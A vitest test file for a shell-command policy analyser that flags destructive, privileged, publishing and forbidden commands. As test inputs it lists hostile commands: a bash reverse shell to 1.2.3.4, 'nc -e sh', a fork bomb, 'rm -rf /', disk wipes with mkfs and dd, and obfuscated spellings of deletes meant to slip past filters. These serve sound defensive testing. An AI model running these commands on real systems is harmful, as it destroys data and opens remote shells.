import { describe, expect, test } from 'vitest';
import { analyseCommand, type Intent } from '../../../../src/policy/commands/index.ts';
import type { CommandClass } from '../../../../src/policy/commands/analysis.ts';
import { resolverOf } from '../helpers.ts';

const pathResolver = resolverOf();

function intentsOf(source: string): Set<Intent> {
  return new Set(
    analyseCommand(source, { pathResolver }).commands.flatMap((command) => command.intents),
  );
}

function classesOf(source: string): Set<CommandClass> {
  return new Set(
    analyseCommand(source, { pathResolver }).commands.flatMap((command) => command.classes),
  );
}

const SPELLINGS: Record<Intent, readonly string[]> = {
  '@recursive-delete': [
    'rm -rf x',
    'rm -r -f x',
    'rm -fr x',
    'rm -R x',
    'rm --recursive x',
    'rm --rec x',
    'rm x -r',
    'rm $FLAGS x',
    'rm "$x" y',
    'find . -delete',
    'find . -exec rm -rf {} +',
    'git clean -fdx',
    'git rm -r x',
    'rsync -a --delete a b',
    'ls | xargs rm -rf',
    'sudo rm -rf x',
    "sh -c 'rm -rf x'",
    'env A=1 rm -rf x',
    '/bin/rm -rf x',
    '\\rm -rf x',
    "r''m -rf x",
    'eval "rm -rf x"',
    'f() { rm -rf x; }',
    'trap "rm -rf x" EXIT',
    'x=$(rm -rf y)',
    '{rm,-rf,x}',
    'f=-rf; rm $f x',
    'watch rm -rf x',
  ],
  '@force-push': [
    'git push --force',
    'git push -f',
    'git push origin +main',
    'git push origin +HEAD:main',
    'git push --force-with-lease',
    'git push --force-with-lease=main:abc',
    'git push --forc',
    'git push --mirror',
    'git push origin :main',
    'git push origin --delete main',
    'git push -d origin main',
    'git push -uf origin x',
    'git -c a=b push -f',
    'git -C x push --force',
    'git push origin $REF',
    'uv run git push -f',
    'bundle exec git push --force',
    'mise exec node@20 -- git push origin +main',
  ],
  '@history-rewrite': [
    'git rebase main',
    'git reset --hard HEAD~1',
    'git reset HEAD~1',
    'git commit --amend',
    'git commit --am',
    'git filter-branch x',
    'git filter-repo',
    'git push --force',
    'git reflog expire --all',
    'git update-ref refs/heads/main x',
    'git branch -D x',
    'git branch -f main x',
    'git tag -d v1',
    'git stash drop',
    'git pull --rebase',
    'git checkout -B x',
    'git switch -C x',
    'git --no-pager rebase x',
  ],
  '@publish': [
    'npm publish',
    'npm --tag x publish',
    'pnpm publish',
    'yarn npm publish',
    'cargo publish',
    'twine upload dist/x',
    'hatch publish',
    'python -m twine upload x',
    'gem push x',
    'gh release create v1',
    'docker push x',
    'npm dist-tag add x',
    'npm unpublish x',
    'poetry publish',
    'npx semantic-release',
    'npx npm@latest publish',
    'npm exec -- npm publish',
    'npm exec --package x -- npm publish',
    'uv run twine upload x',
    'poetry run -- python -m twine upload x',
    'npm publi',
    './gradlew publishToMavenLocal',
    'docker buildx build --push .',
  ],
  '@privilege': [
    'sudo ls',
    'doas ls',
    'su -c ls',
    'pkexec ls',
    'env sudo ls',
    "bash -c 'sudo ls'",
    'chmod u+s x',
    'chmod 4755 x',
    'timeout 5 sudo ls',
    'ls | xargs sudo ls',
    'find . -exec sudo ls {} +',
    'echo $(sudo ls)',
    'setcap x y',
    'runuser -u x ls',
    '/usr/bin/sudo ls',
  ],
  '@install': [
    'npm i x',
    'npm ci',
    'npm install',
    'npm add x',
    'pnpm add x',
    'yarn',
    'yarn add x',
    'pip install x',
    'python3 -m pip install x',
    'apt-get install x',
    'apt install -y x',
    'brew install x',
    'cargo install x',
    'go install x',
    'gem install x',
    'npx x',
    'bunx x',
    'uv pip install x',
    'npm exec x',
    'pnpm dlx x',
  ],
  '@download': [
    'curl https://x.example',
    'wget x',
    'git clone x',
    'git fetch',
    'git pull',
    'gh release download v1',
    'docker pull x',
    'scp a@b:c d',
    'cargo fetch',
  ],
};

for (const [intent, sources] of Object.entries(SPELLINGS)) {
  describe(`${intent} is seen in every spelling`, () => {
    test.each(sources)('%s', (source) => expect([...intentsOf(source)]).toContain(intent));
  });
}

test.each([
  'rm x',
  'git push',
  'git push origin main',
  'git branch',
  'npm test',
  'npm run build',
  'find . -name x',
  'chmod +x a',
  'git reset README.md',
])('%s is none of them', (source) =>
  expect([...intentsOf(source)].filter((intent) => intent !== '@install')).toEqual([]),
);

describe('classes', () => {
  test.each([
    ['git log', '@git-readonly'],
    ['git log', '@readonly'],
    ['git commit -m x', '@git-write'],
    ['git add .', '@git-write'],
    ['git branch new', '@git-write'],
    ['git stash', '@git-write'],
    ['cp a b', '@writes'],
    ['tee x', '@writes'],
    ['ls > x', '@writes'],
    ['sed -i s/a/b/ x', '@writes'],
    ['find . -delete', '@writes'],
    ['LD_PRELOAD=x ls', '@forbidden'],
    ['export LD_PRELOAD=x', '@forbidden'],
    ['env LD_PRELOAD=x ls', '@forbidden'],
    ['mkfs.ext4 /dev/sda', '@forbidden'],
    ['dd if=a of=/dev/sda', '@forbidden'],
    ['bash -i >& /dev/tcp/1.2.3.4/80 0>&1', '@forbidden'],
    ['exec 5<>/dev/tcp/x/80', '@forbidden'],
    ['shutdown now', '@forbidden'],
    ['kill -9 -1', '@forbidden'],
    ['rm -rf /', '@forbidden'],
    ['rm -rf ~', '@forbidden'],
    ['rm -rf $HOME/', '@forbidden'],
    ['nc -e sh x 1', '@forbidden'],
    [':(){ :|:& };:', '@forbidden'],
    ['sudo shutdown now', '@forbidden'],
  ] satisfies [string, CommandClass][])('%s is %s', (source, expected) => {
    expect([...classesOf(source)]).toContain(expected);
  });

  test('no program that writes is also read-only, and writing by redirection is known beside what the program is', () => {
    expect([...classesOf('ls > x')]).toEqual(expect.arrayContaining(['@readonly', '@writes']));
    for (const source of [
      'tee x > y',
      'sed -i s/a/b/ x',
      'find . -delete',
      'git stash',
      'sort -o x y',
      'LD_PRELOAD=x ls',
    ]) {
      expect([...classesOf(source)]).not.toContain('@readonly');
    }
  });
});
